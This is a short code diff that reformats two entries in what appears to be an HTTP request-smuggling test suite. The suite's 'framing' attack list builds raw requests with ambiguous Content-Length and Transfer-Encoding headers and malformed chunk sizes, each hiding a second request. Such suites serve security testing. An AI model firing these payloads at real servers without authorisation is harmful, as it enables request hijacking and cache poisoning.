@@ -33,7 +33,10 @@ export const framing: Attack = {
       ['CL in hex', `${post('Content-Length: 0x2')}\r\n\r\n{}${hidden}`],
       ['CL beyond 2^64', `${post('Content-Length: 18446744073709551618')}\r\n\r\n{}${hidden}`],
       ['TE that is no coding', `${post('Transfer-Encoding: xchunked')}\r\n\r\n0\r\n\r\n${hidden}`],
-      ['TE twice', `${post('Transfer-Encoding: chunked', 'Transfer-Encoding: identity')}\r\n\r\n0\r\n\r\n${hidden}`],
+      [
+        'TE twice',
+        `${post('Transfer-Encoding: chunked', 'Transfer-Encoding: identity')}\r\n\r\n0\r\n\r\n${hidden}`,
+      ],
       ['chunked not last', `${post('Transfer-Encoding: chunked, identity')}\r\n\r\n0\r\n\r\n${hidden}`],
       ['TE with a tab', `${post('Transfer-Encoding:\tchunked\u000b')}\r\n\r\n0\r\n\r\n${hidden}`],
       ['TE before a colon and a space', `${post('Transfer-Encoding : chunked')}\r\n\r\n0\r\n\r\n${hidden}`],
@@ -53,7 +56,10 @@ export const framing: Attack = {
         'a chunk size beyond 2^64',
         `${post('Transfer-Encoding: chunked')}\r\n\r\nfffffffffffffffff\r\n{}\r\n0\r\n\r\n${hidden}`,
       ],
-      ['a chunk size with a sign', `${post('Transfer-Encoding: chunked')}\r\n\r\n-2\r\n{}\r\n0\r\n\r\n${hidden}`],
+      [
+        'a chunk size with a sign',
+        `${post('Transfer-Encoding: chunked')}\r\n\r\n-2\r\n{}\r\n0\r\n\r\n${hidden}`,
+      ],
       ['chunks without their ends', `${post('Transfer-Encoding: chunked')}\r\n\r\n2\r\n{}${hidden}`],
       [
         'an extension of a chunk without end',
